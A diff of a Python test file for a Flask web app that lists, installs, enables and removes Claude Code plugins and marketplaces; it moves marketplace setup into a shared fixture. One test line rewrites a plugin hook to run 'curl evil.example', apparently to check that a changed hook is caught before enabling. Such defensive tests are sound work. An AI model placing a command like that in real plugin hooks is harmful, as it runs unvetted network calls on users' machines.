@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import json
-import subprocess
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -17,7 +16,7 @@ from werkzeug.test import TestResponse
 from opcode_htmx.features.claude_plugins.cli import PluginCli
 from opcode_htmx.features.context import AppContext
 from opcode_htmx.sessions.configuration.acts import ActFailed
-from tests.support.apps.in_process import app_of
+from tests.support.apps.in_process import app_of, client_of
 from tests.support.apps.local_server import plugins_listed_once
 from tests.support.environment import Sandbox, until
 from tests.support.outside import marketplace
@@ -48,17 +47,20 @@ def app(sandbox: Sandbox, claude: Path) -> Iterator[Flask]:
         yield made
 
 
-def cli(sandbox: Sandbox, claude: Path, *arguments: str) -> Any:
-    """What `claude plugin …` prints in the project."""
-    done = subprocess.run(
-        [str(claude), "plugin", *arguments],
-        cwd=sandbox.project,
-        env=sandbox.environment(),
-        capture_output=True,
-        timeout=60,
-        check=True,
-    )
-    return json.loads(done.stdout)
+@pytest.fixture(scope="module")
+def offered(app: Flask, folder: Path) -> Iterator[Path]:
+    """A marketplace's folder. It is added on the page, and in the end updated and removed there."""
+    client = client_of(app)
+    assert "add one to choose from" in client.get("/claude/plugins").text
+    added = client.post("/claude/plugins/marketplaces", data={"source": str(folder)})
+    assert "The marketplace “orchard” is added." in finished(client, added)
+    listed = {"name": NAME, "source": str(folder), "available": 2}
+    assert api(client, "GET", "/marketplaces") == (200, [listed])
+    yield folder
+    market = f"/claude/plugins/marketplaces/{NAME}"
+    assert "updated" in finished(client, client.post(f"{market}/update"))
+    assert "removed" in finished(client, client.post(f"{market}/remove"))
+    assert api(client, "GET", "/marketplaces") == (200, [])
 
 
 def states(client: FlaskClient, **project: str) -> dict[str, bool]:
@@ -105,15 +107,8 @@ def act(client: FlaskClient, verb: str, scope: str = "user", **fields: str) -> T
 
 
 def test_a_plugin_is_shown_installed_disabled_enabled_and_removed_as_the_cli_says(
-    client: FlaskClient, sandbox: Sandbox, claude: Path, folder: Path
+    client: FlaskClient, sandbox: Sandbox, offered: Path
 ) -> None:
-    assert "add one to choose from" in client.get("/claude/plugins").text
-    added = client.post("/claude/plugins/marketplaces", data={"source": str(folder)})
-    assert "The marketplace “orchard” is added." in finished(client, added)
-    assert [each["name"] for each in cli(sandbox, claude, "marketplace", "list", "--json")] == [
-        NAME
-    ]
-
     assert "Greets people" in client.get("/claude/plugins?q=greet").text
     assert "No plugin has these words" in client.get("/claude/plugins?q=nothing-like-it").text
     before = client.get(PAGE).text
@@ -133,7 +128,7 @@ def test_a_plugin_is_shown_installed_disabled_enabled_and_removed_as_the_cli_say
     assert states(client) == {"user": False}
     assert switched(sandbox) is False
 
-    hook = folder / "plugins/greeter/hooks/hooks.json"
+    hook = offered / "plugins/greeter/hooks/hooks.json"
     old = client.get(PAGE).text
     hook.write_text(hook.read_text().replace('"true"', '"curl evil.example"'))
     answer = act(client, "enable", digest=digest(old))
@@ -157,11 +152,6 @@ def test_a_plugin_is_shown_installed_disabled_enabled_and_removed_as_the_cli_say
     removed = finished(client, act(client, "uninstall", "local", **where))
     assert "“greeter” is removed." in removed
     assert states(client, project_path=str(sandbox.project)) == {}
-
-    market = f"/claude/plugins/marketplaces/{NAME}"
-    assert "updated" in finished(client, client.post(f"{market}/update"))
-    assert "removed" in finished(client, client.post(f"{market}/remove"))
-    assert cli(sandbox, claude, "marketplace", "list", "--json") == []
 
 
 def is_described_by_the_api(client: FlaskClient, project_path: str) -> None:
@@ -243,20 +233,19 @@ def asked_of_the_cli(
             assert ended(client, begun).startswith("done: ")
         begun = api(client, "DELETE", f"/of/{PLUGIN}", **where)
         assert ended(client, begun) == "failed: It is not installed."
-        begun = api(client, "POST", f"/marketplaces/{NAME}/update", {})
-        assert ended(client, begun).startswith("done: ")
+        for begun in (
+            api(client, "POST", "/marketplaces", {"source": "someone/market"}),
+            api(client, "POST", f"/marketplaces/{NAME}/update", {}),
+            api(client, "DELETE", f"/marketplaces/{NAME}"),
+        ):
+            assert ended(client, begun).startswith("done: ")
     return asked
 
 
 def test_api_shows_what_the_cli_offers_and_begins_the_acts_of_the_pages(
-    client: FlaskClient, sandbox: Sandbox
+    client: FlaskClient, sandbox: Sandbox, offered: Path
 ) -> None:
-    folder = marketplace.make(sandbox.home / "market of the api")
-    added = api(client, "POST", "/marketplaces", {"source": str(folder)})
-    assert ended(client, added) == "done: The marketplace “orchard” is added."
-    offered = {"name": NAME, "source": str(folder), "available": 2}
-    assert api(client, "GET", "/marketplaces") == (200, [offered])
-
+    marketplace.make(offered)  # as at first
     status, found = api(client, "GET", "", q="greet")
     assert (status, [(e["id"], e["installed"]) for e in found]) == (200, [(PLUGIN, [])])
     assert api(client, "GET", "/installed") == (200, [])
@@ -280,10 +269,10 @@ def test_api_shows_what_the_cli_offers_and_begins_the_acts_of_the_pages(
             (sandbox.project, verb, "--scope", "local", "--", PLUGIN)
             for verb in (*VERBS, "uninstall")
         ),
+        (None, "marketplace", "add", "--", "someone/market"),
         (None, "marketplace", "update", "--", NAME),
+        (None, "marketplace", "remove", "--", NAME),
     ]
-    ended(client, api(client, "DELETE", f"/marketplaces/{NAME}"))
-    assert api(client, "GET", "/marketplaces") == (200, [])
 
 
 def test_api_refuses_what_is_not_known_or_should_not_reach_git(client: FlaskClient) -> None:
